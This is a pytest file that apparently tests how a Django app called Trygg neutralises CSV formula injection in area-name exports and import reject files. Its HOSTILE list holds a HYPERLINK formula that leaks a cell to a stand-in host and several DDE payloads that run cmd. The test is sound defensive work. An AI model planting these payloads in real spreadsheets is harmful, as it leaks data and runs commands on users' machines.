"""No CSV Trygg writes holds a cell a spreadsheet would run (trygg/csvcells.py).

Every prefix OWASP names, on every path that writes CSV: the lägesbild's data.csv
and `trygg lagesbild --format csv` (area names), and an import's rejects file
(the file's own cells and header). Counts Trygg writes stay plain numbers.
"""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.urls import reverse

from trygg import csvcells
from trygg.geo.models import Area
from trygg.incidents.importers import import_file
from trygg.incidents.models import Category, Incident, Source

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Karstorp", "1201", "'redan citerad", " =inledande blanksteg", ""]
MARCH = datetime(2025, 3, 4, 12, 0, tzinfo=ZoneInfo("Europe/Stockholm"))


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(value):
    assert csvcells.cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_as_it_is(value):
    assert csvcells.cell(value) == value


@pytest.mark.parametrize("value", [-3, -0.5, 7, 0, None])
def test_numbers_trygg_writes_stay_numbers(value):
    out = io.StringIO()
    csvcells.Writer(out).writerow(["förändring", value])
    assert csvcells.cell(value) == value
    assert out.getvalue() == f"förändring,{'' if value is None else value}\r\n"


@pytest.fixture
def hostile_areas(world):
    """An area per hostile name in Västervik, each with one incident in March 2025."""
    graffiti = Category.objects.get(slug="klotter")
    for n, name in enumerate(HOSTILE):
        area = Area.objects.create(
            municipality=world.vastervik,
            name=name,
            slug=f"omrade-{n}",
            geometry={
                "type": "Polygon",
                "coordinates": [[[16.6, 57.7], [16.7, 57.7], [16.7, 57.8], [16.6, 57.7]]],
            },
        )
        Incident.objects.create(
            source=Source.STAFF,
            category=graffiti,
            occurred_from=MARCH,
            occurred_to=MARCH,
            municipality=world.vastervik,
            area=area,
        )


def assert_areas_neutralised(rows: list[list[str]]) -> None:
    areas = {row[1]: row[2] for row in rows if row[0] == "by_area"}
    assert areas == {"'" + name: "1" for name in HOSTILE}
    assert ["totalt", "", str(len(HOSTILE))] in rows


def test_the_lagesbild_csv_neutralises_area_names(client, world, hostile_areas):
    client.force_login(world.coordinator)
    response = client.get(reverse("lagesbild-week-csv", args=["0883"]), {"ar": 2025, "vecka": 10})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert_areas_neutralised(read(response.content.decode()))


def test_the_lagesbild_command_neutralises_area_names(world, hostile_areas, capsys):
    call_command(
        "lagesbild",
        *("--municipality", "0883", "--from", "2025-03-01", "--to", "2025-03-31"),
        *("--format", "csv"),
    )
    assert_areas_neutralised(read(capsys.readouterr().out))


@pytest.mark.django_db
def test_an_imports_rejects_file_neutralises_the_files_own_cells(tmp_path):
    """A police extract whose rows are all refused (bad dates): every cell comes back quoted."""
    path = tmp_path / "utdrag.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["Diarienummer", "Brottskod", "Brottsdatum från", "=Kommentar()"])
        for n, value in enumerate(HOSTILE):
            writer.writerow([f"5000-K{n}-25", "1201", "inget datum", value])
        writer.writerow(["-1-K9-25", "1201", "inget datum", "vanlig text"])
    result = import_file("police-extract", path, skip_invalid=True)
    assert (result.created, result.rejected) == (0, len(HOSTILE) + 1)

    with (tmp_path / "utdrag.csv.rejects.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    header, *rejected = rows
    assert header == ["Diarienummer", "Brottskod", "Brottsdatum från", "'=Kommentar()"] + [
        "rad",
        "fält",
        "orsak",
    ]
    assert [row[3] for row in rejected] == ["'" + value for value in HOSTILE] + ["vanlig text"]
    assert rejected[-1][0] == "'-1-K9-25"
    # The line number is Trygg's own count: a number, not text.
    assert [row[4] for row in rejected][:5] == ["2", "3", "4", "5", "6"]
    assert all(row[4].isdigit() for row in rejected)
